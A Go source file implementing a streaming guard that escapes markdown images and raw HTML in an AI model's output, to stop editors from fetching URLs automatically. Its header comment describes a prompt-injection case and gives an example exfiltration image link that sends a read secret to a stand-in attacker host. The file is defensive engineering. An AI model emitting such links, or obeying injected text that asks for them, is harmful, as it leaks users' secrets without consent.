package acp

import "strings"

// imageGuard makes the model's markdown inert before an editor renders
// it. An editor that renders markdown fetches an image's address the
// moment it shows it, with no click: a model that a file or a web page
// talked into it could write ![x](https://attacker/?q=<a secret it read>)
// and the secret would leave without anybody saying yes. So every image
// (inline, reference, collapsed or shortcut) loses its "!" to a backslash
// and becomes a plain link, which needs a click, and every raw HTML tag
// (any tag can fetch: img, picture, a style with url(), …) loses its "<"
// the same way; a backslash before punctuation renders as nothing, so the
// text still reads as written. Autolinks are kept, and so is text inside
// code spans and fenced code blocks at the margin, where nothing is
// fetched. Every image is treated so, whatever its address: deciding which
// addresses are harmless would mean reading them as each editor does.
//
// The text arrives in chunks, and a construct can be split between two:
// the guard holds back only the tail it cannot decide yet (a "!" at the
// end of a chunk, a code span not yet closed), never more than holdLimit
// bytes. A cut (something else shown between the model's words, such as
// a tool call) decides the tail on the safe side, whether the editor then
// joins the words after it to those before or starts anew. Where it
// cannot be sure the editor reads a stretch as code (a code span that may
// pair with a backtick on another line, a fence indented under a list, a
// fence cut short by a tool call), it treats it as text: a stray
// backslash in code is the price, never a live image.
type imageGuard struct {
	pending []byte // the undecided tail, as the model wrote it
	bs      int    // backslashes written just before the next byte
	line    fenceLine

	fence    byte // the character of the open top-level fence, 0 when none
	fenceLen int
	taint    bool // backtick pairing is uncertain until the next blank line
	lost     bool // fences are uncertain for the rest of the turn

	// bang is set when a cut came right after a "!": sent as it was, so
	// ordinary text stays as written, with a "[" after it escaped instead.
	bang bool
}

// holdLimit bounds the tail a guard holds back; past it the guard decides
// as if the construct were cut off.
const holdLimit = 2048

// How much text may follow what the guard is given.
const (
	guardMore = iota // more will follow: undecided tails are held
	guardCut         // more may follow, but it must be decided now
	guardEnd         // nothing follows
)

// fenceLine follows the current line for whether it opens or closes a
// fenced code block, and whether it is blank.
type fenceLine struct {
	n      int
	indent int
	ch     byte
	run    int
	after  bool
	bad    bool
	filled bool // holds more than spaces and tabs
}

// inert is s, a whole text, made inert.
func inert(s string) string {
	var g imageGuard
	return g.write(s, guardEnd)
}

// write takes the next chunk and returns what can be sent of the text so
// far.
func (g *imageGuard) write(s string, mode int) string {
	buf := append(g.pending, s...)
	g.pending = nil
	var out strings.Builder
	out.Grow(len(buf) + 8)
	if g.bang && len(buf) > 0 {
		if buf[0] == '[' {
			out.WriteByte('\\')
		}
		g.bang = false
	}
	emit := func(b []byte) {
		out.Write(b)
		for _, c := range b {
			g.track(c)
		}
	}
	escape := func(c byte) {
		out.WriteByte('\\')
		emit([]byte{c})
	}
	hold := func(i int) bool {
		if mode != guardMore || len(buf)-i > holdLimit {
			return false
		}
		g.pending = append([]byte(nil), buf[i:]...)
		return true
	}
	i := 0
loop:
	for i < len(buf) {
		c := buf[i]
		if g.fence != 0 || c == '\n' {
			emit(buf[i : i+1])
			i++
			continue
		}
		even := g.bs%2 == 0
		switch {
		case c == '!' && even:
			if i+1 == len(buf) {
				if hold(i) {
					break loop
				}
				emit(buf[i : i+1])
				g.bang = mode == guardCut
			} else if buf[i+1] == '[' {
				escape(c)
			} else {
				emit(buf[i : i+1])
			}
			i++
		case c == '<' && even:
			n, decided := autolink(buf[i:])
			switch {
			case !decided && hold(i):
				break loop
			case n > 0:
				emit(buf[i : i+n])
				i += n
			case len(buf) == i+1 && mode == guardEnd:
				emit(buf[i : i+1])
				i++
			case !decided || tagLike(buf[i+1]):
				escape(c)
				i++
			default:
				emit(buf[i : i+1])
				i++
			}
		case c == '`':
			run := runOf(buf[i:], '`')
			if i+run == len(buf) && hold(i) {
				break loop
			}
			if !even || g.taint || g.lost || i+run == len(buf) {
				if !even || mode != guardEnd {
					g.taint = true
				}
				emit(buf[i : i+run])
				i += run
				continue
			}
			end, decided := spanEnd(buf[i:], run, mode == guardEnd)
			switch {
			case !decided && hold(i):
				break loop
			case end > 0:
				emit(buf[i : i+end])
				i += end
			default:
				g.taint = true
				emit(buf[i : i+run])
				i += run
			}
		default:
			emit(buf[i : i+1])
			i++
		}
	}
	if mode == guardCut && len(g.pending) == 0 && (g.fence != 0 || (g.line.ch != 0 && !g.line.bad)) {
		// The editor may read what follows as a new block or as more of
		// this one; a fence could open or close in one reading only.
		g.lost, g.fence, g.fenceLen = true, 0, 0
	}
	if mode == guardEnd {
		*g = imageGuard{}
	}
	return out.String()
}

// track follows one byte sent: backslashes, and the line it ends for fences
// and blank lines.
func (g *imageGuard) track(c byte) {
	if c == '\\' {
		g.bs++
	} else {
		g.bs = 0
	}
	l := &g.line
	if c == '\n' {
		g.endLine()
		return
	}
	l.n++
	if c != ' ' && c != '\t' {
		l.filled = true
	}
	switch {
	case l.bad:
	case l.ch == 0:
		switch c {
		case ' ':
			l.indent++
			l.bad = l.indent > 3
		case '`', '~':
			l.ch, l.run = c, 1
		default:
			l.bad = true
		}
	case !l.after && c == l.ch:
		l.run++
	default:
		l.after = true
		if g.fence != 0 {
			l.bad = c != ' ' && c != '\t'
		} else {
			l.bad = l.ch == '`' && c == '`'
		}
	}
}

// endLine opens or closes a fence at the end of a line, and ends the
// uncertainty about backticks at a blank one.
func (g *imageGuard) endLine() {
	l := g.line
	g.line = fenceLine{}
	fenceLine := !l.bad && l.ch != 0 && l.run >= 3
	switch {
	case g.fence != 0:
		if fenceLine && l.ch == g.fence && l.run >= g.fenceLen {
			g.fence, g.fenceLen, g.taint = 0, 0, false
		}
	case fenceLine && l.indent == 0 && !g.lost:
		// Only a fence at the margin: one indented may belong to a list
		// item or a quote, which can end it before its closing line.
		g.fence, g.fenceLen, g.taint = l.ch, l.run, false
	case !l.filled:
		g.taint = false
	}
}

// runOf is the length of the run of c that b starts with.
func runOf(b []byte, c byte) int {
	n := 0
	for n < len(b) && b[n] == c {
		n++
	}
	return n
}

// spanEnd is, for a run of n backticks b starts with, the end of the code
// span it opens on the same line (0 when it opens none); decided is false
// when b ends before that is known, unless b is the end of the text. A span holding "|" counts as none, for
// a table row splits cells before spans.
func spanEnd(b []byte, n int, final bool) (end int, decided bool) {
	for i := n; i < len(b); {
		switch b[i] {
		case '\n', '|':
			return 0, true
		case '`':
			r := runOf(b[i:], '`')
			if i+r == len(b) && !final {
				return 0, false
			}
			if r == n {
				return i + r, true
			}
			i += r
		default:
			i++
		}
	}
	return 0, false
}

// autolink is, for b starting with "<", the length of the autolink it
// starts (<scheme:…>), 0 when none; decided is false when b ends first.
func autolink(b []byte) (n int, decided bool) {
	i := 1
	for i < len(b) && i <= 33 && (isLetter(b[i]) || (i > 1 && (isDigit(b[i]) || b[i] == '+' || b[i] == '.' || b[i] == '-'))) {
		i++
	}
	if i == len(b) {
		return 0, false
	}
	if b[i] != ':' || i < 3 || i > 33 {
		return 0, true
	}
	for i++; i < len(b); i++ {
		switch c := b[i]; {
		case c == '>':
			return i + 1, true
		case c <= ' ' || c == '<' || c == 0x7f:
			return 0, true
		}
	}
	return 0, false
}

// tagLike reports whether "<" followed by c could start raw HTML: a tag,
// a closing tag, a comment, a declaration or a processing instruction.
func tagLike(c byte) bool {
	return isLetter(c) || c == '/' || c == '!' || c == '?'
}

func isLetter(c byte) bool { return c|0x20 >= 'a' && c|0x20 <= 'z' }
func isDigit(c byte) bool  { return c >= '0' && c <= '9' }
